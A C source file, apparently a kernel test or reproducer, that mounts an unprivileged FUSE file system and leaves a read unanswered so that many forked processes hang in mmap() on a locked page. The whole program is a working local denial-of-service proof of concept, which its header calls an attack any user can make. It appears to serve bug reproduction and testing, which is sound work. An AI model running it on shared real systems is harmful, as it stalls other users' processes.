// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * fuse-hold DIR COUNT: an attack that any user can make. COUNT processes sleep in mmap() of a file
 * on their own file system, mounted at DIR, until SIGTERM. Prints "holding" when all of them sleep.
 *
 * One page of the file stays locked, as the read that fills it is never answered. mmap() waits for
 * it if the file was opened for direct I/O, as it then drops cached pages.
 */
#include <sys/mman.h>
#include <sys/syscall.h>

#include "fuse.h"

#define FILE_BYTES (1 << 20)

static void read_page(const char *path)
{
	int fd = open(path, O_RDONLY);
	char page[4096];

	if (fd < 0 || read(fd, page, sizeof(page)) < 0)
		exit(1);
}

static void map_page(const char *path)
{
	int fd = open(path, O_RDONLY);

	if (fd < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		exit(1);
}

static pid_t start(void (*run)(const char *path), const char *path)
{
	pid_t child = fork();

	if (child < 0)
		err(1, "fork");
	if (!child) {
		run(path);
		exit(0);
	}
	return child;
}

int main(int argc, char **argv)
{
	int count = argc == 3 ? atoi(argv[2]) : 0, got;
	char path[4096];
	pid_t server, *child;
	sigset_t end;

	child = calloc(count, sizeof(*child));
	if (count < 1 || !child)
		errx(1, "usage: fuse-hold DIR COUNT");
	sigemptyset(&end);
	sigaddset(&end, SIGTERM);
	sigprocmask(SIG_BLOCK, &end, NULL);
	name = "file";
	like.st_ino = FILE_ID;
	like.st_size = FILE_BYTES;
	first_flags = FOPEN_KEEP_CACHE;
	flags = FOPEN_KEEP_CACHE | FOPEN_DIRECT_IO;
	server = mount_file(argv[1]);
	snprintf(path, sizeof(path), "%s/%s", argv[1], name);
	wait_until_in(start(read_page, path), SYS_read);
	for (int i = 0; i < count; i++)
		child[i] = start(map_page, path);
	for (int i = 0; i < count; i++)
		wait_until_in(child[i], SYS_mmap);
	puts("holding");
	fflush(stdout);
	sigwait(&end, &got);
	kill(server, SIGKILL);
	while (wait(NULL) > 0)
		;
	return 0;
}
